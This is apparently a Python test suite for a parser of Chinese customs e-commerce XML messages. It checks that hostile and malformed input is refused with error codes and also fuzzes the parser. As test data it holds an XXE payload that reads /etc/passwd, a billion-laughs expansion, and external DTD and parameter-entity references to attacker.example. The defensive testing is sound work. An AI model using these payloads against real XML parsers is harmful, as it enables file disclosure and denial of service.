"""Hostile and broken input: parse_message refuses with the right code, and never raises anything else.

The last part is h11's fuzz discipline: whatever the bytes, the outcome is a ParsedMessage or a
CebError.
"""

from __future__ import annotations

import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from central.ceb import xml_in
from central.ceb.documents import DocKind
from central.ceb.xml_in import MAX_MESSAGE_BYTES, CebError, ParsedMessage, parse_message
from central.ceb.xml_out import message_xml
from testkit import factories

CEB = "http://www.chinaport.gov.cn/ceb"


def refused(data: bytes, **kwargs: int) -> CebError:
    with pytest.raises(CebError) as caught:
        parse_message(data, **kwargs)
    return caught.value


def outcome(data: bytes) -> ParsedMessage | CebError:
    """The only two things parse_message may do; anything else propagates and fails the test."""
    try:
        return parse_message(data)
    except CebError as error:
        assert error.code and error.reason
        return error


def payment_xml() -> bytes:
    return message_xml(DocKind.PAYMENT, [factories.payment()], factories.BASE_TRANSFER)


def with_guid_text(prolog: str, guid_text: str) -> bytes:
    """A payment message whose head guid is `guid_text`, after a hostile prolog."""
    body = payment_xml().decode().split("\n", 1)[1]
    start = body.index("<ceb:guid>") + len("<ceb:guid>")
    end = body.index("</ceb:guid>")
    return (prolog + body[:start] + guid_text + body[end:]).encode()


# --- entities and DTDs --------------------------------------------------------------------------

XXE = '<?xml version="1.0"?>\n<!DOCTYPE m [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE m [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + "]>\n"
)
PARAMETER = '<!DOCTYPE m [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>\n'
EXTERNAL_DTD = '<!DOCTYPE m SYSTEM "http://attacker.example/m.dtd">\n'
REASON = "DOCTYPE and entity declarations are not allowed in CEB messages"


@pytest.mark.parametrize(
    ("prolog", "text"),
    [
        (XXE, "&xxe;"),
        (BILLION_LAUGHS, "&lol9;"),
        (PARAMETER, "x"),
        (EXTERNAL_DTD, "x"),
        ("<!DOCTYPE m>\n", "x"),
    ],
    ids=["xxe", "billion-laughs", "parameter-entity", "external-dtd", "bare-doctype"],
)
def test_doctype_and_entities_are_refused(prolog: str, text: str) -> None:
    started = time.perf_counter()
    error = refused(with_guid_text(prolog, text))
    assert error.code == "entity_forbidden"
    assert error.reason.startswith(REASON)
    assert "root:" not in error.reason
    assert time.perf_counter() - started < 1


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32"])
def test_declarations_are_refused_in_any_encoding(encoding: str) -> None:
    """The byte scan cannot see UTF-16; the parsed tree's DOCTYPE is checked as well."""
    data = with_guid_text(XXE.replace('"1.0"', f'"1.0" encoding="{encoding}"'), "&xxe;").decode()
    error = refused(data.encode(encoding))
    assert error.code in {"entity_forbidden", "xml_syntax"}  # libxml2 may not take UTF-32 at all
    assert "root:" not in error.reason


def test_utf16_xxe_is_refused_as_entity_forbidden() -> None:
    data = with_guid_text(XXE.replace('"1.0"', '"1.0" encoding="utf-16"'), "&xxe;").decode().encode("utf-16")
    assert refused(data).code == "entity_forbidden"


@pytest.mark.parametrize(
    ("prolog", "text", "code"),
    [(XXE, "&xxe;", "entity_forbidden"), (BILLION_LAUGHS, "&lol9;", "xml_syntax")],
    ids=["xxe", "laughs"],
)
def test_parser_settings_hold_without_the_byte_scan(
    monkeypatch: pytest.MonkeyPatch, prolog: str, text: str, code: str
) -> None:
    """Defence in depth: with the byte scan off, lxml expands nothing and fetches nothing.

    The XXE message parses (entity left unexpanded) and its DOCTYPE is refused afterwards; the
    billion laughs trips libxml2's own amplification limit first.
    """
    monkeypatch.setattr(xml_in, "_DECLARATIONS", ())
    started = time.perf_counter()
    error = refused(with_guid_text(prolog, text))
    assert error.code == code
    assert "root:" not in error.reason and "lollol" not in error.reason
    assert time.perf_counter() - started < 1


def test_undeclared_entity_is_a_syntax_error() -> None:
    error = refused(with_guid_text("", "&xxe;"))
    assert error.code == "xml_syntax"
    assert "Entity 'xxe' not defined" in error.reason


def test_a_clean_utf16_message_is_accepted() -> None:
    text = payment_xml().decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    assert parse_message(text.encode("utf-16")).documents == [factories.payment()]


# --- size, emptiness, garbage -------------------------------------------------------------------


def test_oversize_is_refused_before_parsing() -> None:
    error = refused(b"<" * (MAX_MESSAGE_BYTES + 1))
    assert (error.code, error.reason) == (
        "too_large",
        f"message is {MAX_MESSAGE_BYTES + 1} bytes, the limit is {MAX_MESSAGE_BYTES}",
    )
    assert refused(payment_xml(), max_bytes=100).code == "too_large"
    assert parse_message(payment_xml(), max_bytes=len(payment_xml())).documents


@pytest.mark.parametrize("data", [b"", b"   \n\t "], ids=["empty", "whitespace"])
def test_empty_body(data: bytes) -> None:
    error = refused(data)
    assert (error.code, error.reason) == ("xml_syntax", "message is empty")


@pytest.mark.parametrize(
    "data",
    [
        b"\xff\xfe\xfd garbage \x00\x01",
        b"\x80\x81<ceb:CEB311Message/>",
        b"not xml at all",
        b"<a><b></a>",
        b"\x00",
    ],
)
def test_garbage_is_a_syntax_error(data: bytes) -> None:
    error = refused(data)
    assert error.code == "xml_syntax"
    assert error.reason.startswith("not well-formed XML: ")


def test_invalid_utf8_inside_a_message() -> None:
    data = payment_xml().replace("张三".encode(), b"\xc3\x28")
    assert refused(data).code == "xml_syntax"


def test_trailing_bytes_are_a_syntax_error() -> None:
    error = refused(payment_xml() + b"<extra/>")
    assert error.code == "xml_syntax"
    assert "Extra content at the end of the document" in error.reason


# --- namespaces and counts ----------------------------------------------------------------------


def test_no_namespace() -> None:
    data = payment_xml().replace(b' xmlns:ceb="http://www.chinaport.gov.cn/ceb"', b"").replace(b"ceb:", b"")
    error = refused(data)
    assert (error.code, error.reason) == (
        "namespace",
        "root element <CEB411Message> has no namespace; CEB messages use http://www.chinaport.gov.cn/ceb",
    )


def test_wrong_namespace() -> None:
    error = refused(payment_xml().replace(CEB.encode(), b"http://www.chinaport.gov.cn/cebx"))
    assert error.code == "namespace"
    assert error.reason.startswith(
        "root element <CEB411Message> is in namespace http://www.chinaport.gov.cn/cebx;"
    )


def test_101_documents() -> None:
    xml = payment_xml().decode()
    start, end = xml.index("<ceb:Payment>"), xml.index("<ceb:BaseTransfer>")
    data = (xml[:start] + xml[start:end] * 101 + xml[end:]).encode()
    error = refused(data)
    assert (error.code, error.reason) == (
        "too_many_documents",
        "CEB411Message carries 101 Payment documents, the standard allows at most 100",
    )
    hundred = (xml[:start] + xml[start:end] * 100 + xml[end:]).encode()
    assert len(parse_message(hundred).documents) == 100


def test_deep_nesting_is_bounded() -> None:
    data = b"<a>" * 100_000 + b"</a>" * 100_000
    assert refused(data).code == "xml_syntax"


# --- fuzz ---------------------------------------------------------------------------------------


def test_truncation_at_every_position() -> None:
    data = payment_xml()
    whole = data.rstrip()
    for cut in range(len(whole)):
        error = outcome(data[:cut])
        assert isinstance(error, CebError), cut
        assert error.code == "xml_syntax", (cut, error)
    assert isinstance(outcome(whole), ParsedMessage)


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2048))
def test_arbitrary_bytes(data: bytes) -> None:
    outcome(data)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_byte_flips(data: st.DataObject) -> None:
    message = bytearray(payment_xml())
    for _ in range(data.draw(st.integers(1, 4))):
        position = data.draw(st.integers(0, len(message) - 1))
        message[position] = data.draw(st.integers(0, 255))
    outcome(bytes(message))


@settings(max_examples=200, deadline=None)
@given(st.data())
def test_spliced_fragments(data: st.DataObject) -> None:
    """Pieces of a valid message cut and rearranged: structure errors, never crashes."""
    message = payment_xml()
    a = data.draw(st.integers(0, len(message)))
    b = data.draw(st.integers(a, len(message)))
    c = data.draw(st.integers(0, len(message)))
    outcome(message[:a] + message[b:c] + message[a:b])


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=80))
def test_any_field_text(text: str) -> None:
    """Any text in any field ends as a valid model or a CebError (never a pydantic error)."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace("]]>", "]]&gt;")
    xml = payment_xml().decode()
    for field in ("payerName", "amountPaid", "appType", "payTime"):
        start = xml.index(f"<ceb:{field}>") + len(f"<ceb:{field}>")
        end = xml.index(f"</ceb:{field}>")
        outcome((xml[:start] + escaped + xml[end:]).encode("utf-8", "surrogatepass"))
